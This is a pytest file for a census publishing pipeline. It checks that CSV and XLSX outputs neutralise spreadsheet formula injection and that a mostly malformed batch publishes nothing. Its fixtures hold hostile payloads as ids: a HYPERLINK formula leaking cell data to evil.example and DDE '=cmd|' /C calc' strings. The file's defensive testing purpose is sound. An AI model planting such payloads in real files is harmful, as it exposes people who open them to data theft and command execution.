"""Published files are safe to open and never half-written or built on a broken census.

A hand-written landing zone (the rules zone of test_rules.py, tests/builders.py, plus households and enumerators
whose ids are formula-injection payloads) runs through the real pipeline; every CSV and the XLSX
are read back as a spreadsheet would read them. A second zone, mostly malformed lines, must be
stopped by the blocking plausibility check and publish nothing.
"""

import csv

import pytest
from openpyxl import load_workbook

from census_pipeline.lib.safe_cells import starts_like_a_formula
from census_pipeline.runner import summarise
from tests.builders import (
    EA,
    frame_row,
    materialize_into,
    person,
    rules_landing_zone,
    submission,
    write_batch,
    write_frame,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
LISTED_ONLY = "@SUM(1+1)"  # a listed household never enumerated (no comma: the frame is CSV)
PAYLOAD_SUBMISSIONS = [
    # no final submission: on the follow-up list with its enumerator
    submission("p1", HYPERLINK, [person(1, "申一", seq=81)], status="partial", enumerator_id=CALC),
    # fewer person lines than H3: on the follow-up list
    submission("p2", "-2+3", [person(1, "酉一", seq=83)], h_resident_count=3, enumerator_id=SUM),
    submission("p3", "\t=1+1", [person(1, "戌一", seq=85)], enumerator_id="+1+1"),
]


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("payloads")
    root = tmp / "landing"
    rules_landing_zone(root, PAYLOAD_SUBMISSIONS, [frame_row(LISTED_ONLY, address="某路9号", expected_persons=2)])
    result, con = materialize_into(root, tmp)
    con.close()
    summary = summarise(result)
    assert summary["ok"], summary
    assert summary["published"]
    yield tmp / "out"


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:  # published CSVs start with a BOM, for Excel
        return list(csv.DictReader(f))


def test_payload_ids_reach_the_field_reports_neutralised(published):
    follow_up = read_csv(published / "quality/follow_up.csv")
    households = {r["household_id"] for r in follow_up}
    assert {"'" + HYPERLINK, "'-2+3", "'" + LISTED_ONLY} <= households, households
    assert "'" + CALC in {r["enumerator_id"] for r in follow_up}
    scorecard = read_csv(published / "quality/enumerator_scorecard.csv")
    assert {"'" + CALC, "'" + SUM, "'+1+1"} <= {r["enumerator_id"] for r in scorecard}


def test_no_csv_cell_starts_like_a_formula(published):
    files = sorted(published.rglob("*.csv"))
    assert len(files) >= 16  # 12 bulletin tables, 4 field reports
    for path in files:
        rows = read_csv(path)
        for row in rows:
            for column, value in row.items():
                assert not starts_like_a_formula(value or ""), (path.name, column, value)


def test_xlsx_cells_are_text_or_numbers_never_formulas(published):
    wb = load_workbook(published / "bulletin/bulletin.xlsx")
    population = None
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not starts_like_a_formula(cell.value), (ws.title, cell.coordinate, cell.value)
        if ws.title == "表1 常住人口":
            header = [c.value for c in ws[3]]  # title, unit, then the headers
            population = ws.cell(row=4, column=header.index("常住人口") + 1).value
    assert isinstance(population, int) and population > 0


def test_workbook_neutralises_text_and_keeps_negative_numbers(tmp_path):
    from decimal import Decimal

    from census_pipeline.lib.workbook import table_sheet, write_workbook

    sheet = table_sheet("t", ["region_code", "region_name", "change", "rate"],
                        [("330100", CALC, -12, Decimal("-1.25")), ("330102", "\t@x", 3, Decimal("2.50"))])
    write_workbook(tmp_path / "t.xlsx", [sheet])
    ws = load_workbook(tmp_path / "t.xlsx")["t"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4, max_row=5)]
    assert rows == [["'" + CALC, -12, -1.25], ["'\t@x", 3, 2.5]]
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


@pytest.mark.slow
@pytest.mark.xdist_group("malformed_census")  # a run of its own: beside the one of `published`
def test_a_census_of_mostly_malformed_lines_publishes_nothing(tmp_path):
    root = tmp_path / "landing"
    good = submission("g1", f"H{EA}0001", [person(1, "亥一", seq=87)])
    write_batch(root / "uploads/pad/2020-11-20/batch.jsonl", [good, "{not json", "garbage", '{"submission_id": 7}', "[]"])
    write_frame(root, [frame_row(f"H{EA}0001")])
    result, con = materialize_into(root, tmp_path)
    received, quarantined = con.execute(
        "select sum(lines_received), sum(lines_quarantined) from quality.ingest_ledger").fetchone()
    con.close()
    assert quarantined / received > 0.2  # independent of the check: the zone is what we meant
    summary = summarise(result)
    assert ("microdata/persons:quarantined_share_is_plausible", "ERROR") in summary["checks_failed"], summary
    assert not summary["ok"] and not summary["published"]
    assert not (tmp_path / "out" / "bulletin").exists()
